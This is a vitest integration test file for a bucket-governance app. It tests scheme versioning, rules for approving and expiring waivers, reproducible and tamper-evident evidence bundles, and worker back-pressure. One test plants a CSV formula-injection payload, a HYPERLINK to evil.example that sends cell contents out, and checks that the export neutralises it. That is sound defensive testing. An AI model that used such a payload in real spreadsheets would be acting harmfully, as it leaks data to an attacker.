/**
 * Scheme versions, waivers and evidence bundles against real Postgres, through the DAL functions the app calls
 * (with the scratch database's client): a scheme change re-evaluates the affected buckets and records the version;
 * waivers are decided by someone other than the proposer and stop counting when they expire; the same evidence
 * scope and snapshot give byte-identical data files.
 */
import { createHash } from "node:crypto";
import { PassThrough, Writable } from "node:stream";
import JSZip from "jszip";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { DEMO_SPECIAL_BUCKETS as S, DEMO_UNASSUMABLE_ACCOUNT_NAME } from "@/lib/sources/fixture/estate";
import { DEFAULT_SCHEME } from "@/lib/domain/classification/scheme";
import { CONTROL_CATALOG } from "@/lib/domain/controls/catalog";
import { exportClassificationScheme } from "@/lib/domain/classification/scheme-schema";
import { loadDemoOrganisation } from "@/lib/demo/load-demo";
import { CREDIT_CHUNKS, writeEvidenceBundleInWorker } from "@/lib/evidence/bundle-in-worker";
import { resolveSnapshot, writeEvidenceBundle } from "@/lib/evidence/write-bundle";
import { changeSchemeWith } from "@/lib/server/dal/scheme";
import { decideWaiverWith, proposeWaiverWith } from "@/lib/server/dal/waivers";
import { expireDueWaivers } from "@/lib/sync/jobs/expire-waivers";
import { startEvidenceBundleWith, verifyEvidenceWith } from "@/lib/server/dal/evidence";
import type { Actor } from "@/lib/server/permissions";
import { scratchDb } from "../support/scratch-db";

let db: Awaited<ReturnType<typeof scratchDb>>;
const actors = {} as Record<"admin" | "lead" | "auditor" | "admin2", Actor>;

async function bundleBytes(actor: Actor, request: Record<string, unknown>): Promise<Buffer> {
  const { stream, done } = await startEvidenceBundleWith(db.prisma, actor, request);
  const chunks: Buffer[] = [];
  const collected = new Promise<void>((resolve, reject) => {
    stream.on("data", (c: Buffer) => chunks.push(c));
    stream.on("end", resolve);
    stream.on("error", reject);
  });
  await done;
  await collected;
  return Buffer.concat(chunks);
}

describe("governance: scheme versions, waivers, evidence", () => {
  beforeAll(async () => {
    process.env.CUSTODY_DEMO_PASSWORD = "integration-demo-password";
    db = await scratchDb("governance");
    await loadDemoOrganisation(db.prisma, { historyDays: 1 });
    const users = await db.prisma.user.findMany({ select: { id: true, email: true, name: true, role: true } });
    const as = (email: string, role: Actor["role"]): Actor => ({ ...users.find((u) => u.email === email)!, role });
    actors.admin = as("admin@demo.custody.local", "admin");
    actors.lead = as("lead@demo.custody.local", "security-lead");
    actors.auditor = as("auditor@demo.custody.local", "auditor");
    const second = await db.prisma.user.create({
      data: { email: "admin2@example.com", name: "Second Admin", role: "admin", passwordHash: "x" },
      select: { id: true, email: true, name: true },
    });
    actors.admin2 = { ...second, role: "admin" };
  });
  afterAll(async () => db.drop());

  it("changing Medium's required controls re-evaluates the Medium buckets, records the new version, and audits the diff", async () => {
    const scheme = structuredClone(DEFAULT_SCHEME);
    scheme.levels[1]!.requiredControlIds = [...scheme.levels[1]!.requiredControlIds, "versioning"];
    const partnerBefore = await db.prisma.bucket.findFirstOrThrow({
      where: { name: S.partnerBlockedByKey },
      select: { id: true, failingRequired: true, schemeVersion: true },
    });
    const highBefore = await db.prisma.bucket.findFirstOrThrow({
      where: { name: S.compliantHigh },
      select: { schemeVersion: true, evaluatedAt: true },
    });
    expect(partnerBefore.schemeVersion).toBe(1);

    const result = await changeSchemeWith(db.prisma, actors.admin, {
      schemeJson: exportClassificationScheme(scheme),
      note: "versioning for Medium",
      source: "editor",
    });
    if (!result.ok) throw new Error(result.errors.join("; "));
    expect(result.version).toBe(2);
    expect(result.changes).toEqual(["level medium now requires versioning"]);
    const mediumCount = await db.prisma.bucket.count({ where: { levelKey: "medium", currentStateId: { not: null } } });
    expect(result.reevaluating).toBe(mediumCount);
    const status = await result.done!;
    expect(status).toMatchObject({ state: "succeeded", done: mediumCount, total: mediumCount, schemeVersion: 2 });

    const partner = await db.prisma.bucket.findUniqueOrThrow({
      where: { id: partnerBefore.id },
      select: {
        schemeVersion: true,
        failingRequired: true,
        controlResults: {
          where: { controlId: "versioning" },
          select: { status: true, required: true, schemeVersion: true },
        },
      },
    });
    // The partner feed (Medium) has versioning off: once Medium requires it, it fails, under version 2.
    expect(partner.controlResults[0]).toEqual({ status: "fail", required: true, schemeVersion: 2 });
    expect(partner.schemeVersion).toBe(2);
    expect(partner.failingRequired).toBe(partnerBefore.failingRequired + 1);
    // A High bucket was not affected and was not touched.
    const high = await db.prisma.bucket.findFirstOrThrow({
      where: { name: S.compliantHigh },
      select: { schemeVersion: true, evaluatedAt: true },
    });
    expect(high).toEqual(highBefore);

    const audit = await db.prisma.auditEvent.findFirstOrThrow({
      where: { action: "scheme.update", outcome: "success" },
      orderBy: { id: "desc" },
    });
    expect(audit.actorEmail).toBe("admin@demo.custody.local");
    expect(audit.detail).toMatchObject({
      fromVersion: 1,
      toVersion: 2,
      changes: ["level medium now requires versioning"],
    });
  });

  it("a bad scheme names the field and changes nothing; only admins may edit", async () => {
    const bad = JSON.parse(exportClassificationScheme(DEFAULT_SCHEME));
    bad.levels[1].rank = "two";
    const result = await changeSchemeWith(db.prisma, actors.admin, {
      schemeJson: JSON.stringify(bad),
      note: "",
      source: "import",
    });
    expect(result).toEqual({ ok: false, errors: ["levels[1].rank: rank must be a number"] });
    expect(await db.prisma.schemeVersion.count()).toBe(2);
    await expect(
      changeSchemeWith(db.prisma, actors.lead, {
        schemeJson: exportClassificationScheme(DEFAULT_SCHEME),
        note: "",
        source: "editor",
      }),
    ).rejects.toMatchObject({ code: "forbidden" });
  });

  it("a waiver: the proposer cannot approve it, another admin can; the control is waived; on expiry it stops counting", async () => {
    const logs = await db.prisma.bucket.findFirstOrThrow({
      where: { name: S.accessLogs },
      select: { id: true, failingRequired: true, waivedRequired: true },
    });
    const now = new Date();
    const expiresOn = new Date(now.getTime() + 30 * 86_400_000).toISOString().slice(0, 10);
    await expect(
      proposeWaiverWith(db.prisma, actors.auditor, {
        bucket: S.accessLogs,
        controlId: "access-logging",
        reason: "log target cannot log to itself",
        owner: "security-team",
        expiresOn,
      }),
    ).rejects.toMatchObject({ code: "forbidden" });
    await expect(
      proposeWaiverWith(db.prisma, actors.lead, {
        bucket: S.accessLogs,
        controlId: "versioning",
        reason: "versioning is fine here",
        owner: "security-team",
        expiresOn,
      }),
    ).rejects.toMatchObject({ code: "conflict" });
    await expect(
      proposeWaiverWith(db.prisma, actors.lead, {
        bucket: S.accessLogs,
        controlId: "access-logging",
        reason: "log target cannot log to itself",
        owner: "security-team",
        expiresOn: "2020-01-01",
      }),
    ).rejects.toThrow("expiry date must be in the future");

    const proposedByAdmin = await proposeWaiverWith(db.prisma, actors.admin, {
      bucket: S.accessLogs,
      controlId: "access-logging",
      reason: "the log target cannot log to itself",
      owner: "security-team",
      expiresOn,
    });
    await expect(
      decideWaiverWith(db.prisma, actors.admin, { waiverId: proposedByAdmin.id, decision: "approve" }),
    ).rejects.toMatchObject({ code: "forbidden" });
    expect(await db.prisma.auditEvent.count({ where: { action: "waiver.approve", outcome: "denied" } })).toBe(1);

    await decideWaiverWith(db.prisma, actors.admin2, { waiverId: proposedByAdmin.id, decision: "approve", note: "ok" });
    let after = await db.prisma.bucket.findUniqueOrThrow({
      where: { id: logs.id },
      select: {
        failingRequired: true,
        waivedRequired: true,
        controlResults: { where: { controlId: "access-logging" }, select: { status: true, waiverId: true } },
      },
    });
    expect(after.controlResults[0]).toEqual({ status: "waived", waiverId: proposedByAdmin.id });
    expect(after).toMatchObject({ failingRequired: logs.failingRequired - 1, waivedRequired: logs.waivedRequired + 1 });

    // Expiry: nothing to do before; the day after, the sweep marks it expired and the control fails again.
    expect(await expireDueWaivers(db.prisma, now)).toBe(0);
    const later = new Date(now.getTime() + 31 * 86_400_000);
    await db.prisma.waiver.update({
      where: { id: proposedByAdmin.id },
      data: { expiresAt: new Date(Date.now() - 1000) },
    }); // evaluation uses the clock
    expect(await expireDueWaivers(db.prisma, later)).toBe(1);
    const w = await db.prisma.waiver.findUniqueOrThrow({
      where: { id: proposedByAdmin.id },
      select: { status: true, endedAt: true },
    });
    expect(w.status).toBe("expired");
    after = await db.prisma.bucket.findUniqueOrThrow({
      where: { id: logs.id },
      select: {
        failingRequired: true,
        waivedRequired: true,
        controlResults: { where: { controlId: "access-logging" }, select: { status: true, waiverId: true } },
      },
    });
    expect(after.controlResults[0]).toEqual({ status: "fail", waiverId: null });
    expect(after).toMatchObject({ failingRequired: logs.failingRequired, waivedRequired: logs.waivedRequired });
    expect(await db.prisma.auditEvent.count({ where: { action: "waiver.expire" } })).toBe(1);
  });

  it("evidence: the same scope and snapshot give byte-identical data files; the manifest hashes them; the record verifies", async () => {
    const run = await db.prisma.syncRun.findFirstOrThrow({
      where: { status: { in: ["succeeded", "partial"] } },
      orderBy: { finishedAt: "desc" },
      select: { id: true },
    });
    const payments = await db.prisma.account.findFirstOrThrow({
      where: { name: "acme-prod-payments" },
      select: { id: true },
    });
    const request = { syncRunId: run.id, accounts: [payments.id], ous: [], levels: [], controls: [] };
    const first = await bundleBytes(actors.auditor, request);
    const second = await bundleBytes(actors.auditor, { ...request, accounts: [payments.id, payments.id] });
    const [a, b] = await Promise.all([JSZip.loadAsync(first), JSZip.loadAsync(second)]);
    const names = Object.keys(a.files).sort();
    expect(names).toEqual([
      "account-posture.csv",
      "bucket-settings.json",
      "config-evaluations.json",
      "control-matrix.csv",
      "macie-findings.json",
      "manifest.json",
      "scheme.json",
      "third-parties.csv",
      "waivers.csv",
    ]);
    const manifest = JSON.parse(await a.file("manifest.json")!.async("string"));
    expect(manifest).toMatchObject({
      createdBy: "auditor@demo.custody.local",
      snapshot: { syncRunId: run.id },
      filters: { accounts: [payments.id] },
    });
    for (const f of manifest.files as { name: string; sha256: string }[]) {
      const bytesA = await a.file(f.name)!.async("nodebuffer");
      const bytesB = await b.file(f.name)!.async("nodebuffer");
      expect(createHash("sha256").update(bytesA).digest("hex")).toBe(f.sha256);
      expect(bytesB.equals(bytesA)).toBe(true);
    }
    const matrix = await a.file("control-matrix.csv")!.async("string");
    const bucketsInAccount = await db.prisma.bucket.count({ where: { accountId: payments.id } });
    expect(manifest.buckets).toBe(bucketsInAccount);
    expect(matrix.trim().split("\n")).toHaveLength(1 + bucketsInAccount * CONTROL_CATALOG.length);
    // The unencrypted High bucket fails encryption in the bundle exactly as it does in the app.
    expect(matrix).toMatch(
      new RegExp(`${S.unencryptedHigh},eu-west-1,high,tag,encryption-at-rest,true,fail,fail,disagree,COMPLIANT`),
    );

    const recorded = await db.prisma.evidenceBundle.findMany({ select: { sha256: true } });
    expect(recorded).toHaveLength(2);
    const verified = await verifyEvidenceWith(db.prisma, actors.auditor, { zip: first });
    expect(verified).toMatchObject({
      match: true,
      files: manifest.files.map((f: { name: string }) => ({ name: f.name, ok: true })),
    });
    // A changed data file is caught, and a manifest Custody never issued is not matched.
    a.file("control-matrix.csv", matrix.replace(",fail,fail,", ",pass,pass,"));
    const tampered = await verifyEvidenceWith(db.prisma, actors.auditor, {
      zip: await a.generateAsync({ type: "nodebuffer" }),
    });
    expect(tampered).toMatchObject({ match: false, message: expect.stringContaining("control-matrix.csv") });
    expect(await verifyEvidenceWith(db.prisma, actors.auditor, { hash: "0".repeat(64) })).toMatchObject({
      match: false,
    });
    await expect(startEvidenceBundleWith(db.prisma, actors.lead, request)).rejects.toMatchObject({ code: "forbidden" });
    await expect(
      startEvidenceBundleWith(db.prisma, actors.auditor, { ...request, syncRunId: "nope" }),
    ).rejects.toMatchObject({ code: "invalid_input" });
  });

  it("evidence: a bundle built in the worker thread is byte-identical to one built in-process, and the worker waits for a slow consumer", async () => {
    const run = await db.prisma.syncRun.findFirstOrThrow({
      where: { status: { in: ["succeeded", "partial"] } },
      orderBy: { finishedAt: "desc" },
      select: { id: true },
    });
    const request = { syncRunId: run.id, accounts: [], ous: [], levels: [], controls: [] };
    const common = {
      request,
      createdBy: { id: actors.auditor.id, email: actors.auditor.email },
      createdAt: new Date("2026-01-02T03:04:05.678Z"),
    };
    const collect = (stream: PassThrough) => {
      const chunks: Buffer[] = [];
      stream.on("data", (c: Buffer) => chunks.push(c));
      return new Promise<Buffer>((resolve, reject) => {
        stream.on("end", () => resolve(Buffer.concat(chunks)));
        stream.on("error", reject);
      });
    };

    const inProcessOut = new PassThrough();
    const inProcessBytes = collect(inProcessOut);
    const inProcess = await writeEvidenceBundle(db.prisma, { ...common, out: inProcessOut });
    const workerOut = new PassThrough();
    const workerBytes = collect(workerOut);
    const recorded: string[] = [];
    // With the snapshot resolved here, as the DAL does: the worker then builds no Prisma client (bulkOnlyClient);
    // the slow consumer below goes without, so the worker resolves it through Prisma.
    const viaWorker = await writeEvidenceBundleInWorker(db.url, {
      ...common,
      snapshot: await resolveSnapshot(db.prisma, run.id),
      out: workerOut,
      onManifest: async (r) => void recorded.push(r.manifestSha256),
    });
    // Issue 14 §10: the demo's run is partial (one account cannot be assumed); the whole-estate manifest names it.
    expect((inProcess.manifest as { incompleteAccounts: unknown[] }).incompleteAccounts).toEqual([
      expect.objectContaining({
        name: DEMO_UNASSUMABLE_ACCOUNT_NAME,
        missing: [
          expect.objectContaining({
            region: "global",
            collector: "sts",
            reason: expect.stringContaining("AccessDenied"),
          }),
        ],
      }),
    ]);
    expect((await workerBytes).equals(await inProcessBytes)).toBe(true);
    expect(viaWorker).toEqual(inProcess);
    expect(recorded).toEqual([inProcess.manifestSha256]);

    // A consumer that takes no more bytes after the first chunk: the worker stops after its credit of chunks.
    const received: Buffer[] = [];
    let release: (() => void) | null = null;
    let paused = true;
    const slow = new Writable({
      highWaterMark: 1,
      write(chunk: Buffer, _encoding, callback) {
        received.push(chunk);
        if (paused) release = callback;
        else callback();
      },
    });
    let writes = 0;
    const write = slow.write.bind(slow) as (chunk: Buffer) => boolean;
    slow.write = ((chunk: Buffer) => {
      writes++;
      return write(chunk);
    }) as typeof slow.write;
    const slowDone = writeEvidenceBundleInWorker(db.url, { ...common, out: slow });
    await expect.poll(() => writes, { timeout: 30_000 }).toBe(CREDIT_CHUNKS);
    await new Promise((r) => setTimeout(r, 500)); // the worker would have sent more by now without back-pressure
    expect(writes).toBe(CREDIT_CHUNKS);
    paused = false;
    release!();
    await slowDone;
    expect(writes).toBeGreaterThan(CREDIT_CHUNKS);
    await new Promise<void>((resolve) => (slow.writableFinished ? resolve() : slow.once("finish", () => resolve())));
    expect(Buffer.concat(received).equals(await inProcessBytes)).toBe(true);
  });

  it("evidence: a waiver reason or owner that would run as a spreadsheet formula is neutralised in waivers.csv", async () => {
    const run = await db.prisma.syncRun.findFirstOrThrow({
      where: { status: { in: ["succeeded", "partial"] } },
      orderBy: { finishedAt: "desc" },
      select: { id: true, finishedAt: true },
    });
    const T = run.finishedAt!;
    const bucket = await db.prisma.bucket.findFirstOrThrow({
      where: { name: S.unencryptedHigh },
      select: { id: true, accountId: true },
    });
    // Active at the snapshot: decided before it, expiring after it (written directly: the DAL stamps "now").
    await db.prisma.waiver.create({
      data: {
        bucketId: bucket.id,
        controlId: "encryption-at-rest",
        status: "approved",
        reason: '=HYPERLINK("http://evil.example/?x="&A1,"open")',
        owner: "@ops",
        proposedById: actors.lead.id,
        proposedAt: new Date(T.getTime() - 2 * 86_400_000),
        decidedById: actors.admin2.id,
        decidedAt: new Date(T.getTime() - 86_400_000),
        expiresAt: new Date(T.getTime() + 30 * 86_400_000),
      },
    });
    const zip = await JSZip.loadAsync(
      await bundleBytes(actors.auditor, {
        syncRunId: run.id,
        accounts: [bucket.accountId],
        ous: [],
        levels: [],
        controls: [],
      }),
    );
    const waivers = await zip.file("waivers.csv")!.async("string");
    expect(waivers).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""open"")",'@ops,`);
    expect(waivers).not.toMatch(/(^|,)"?[=@]/m);
  });
});
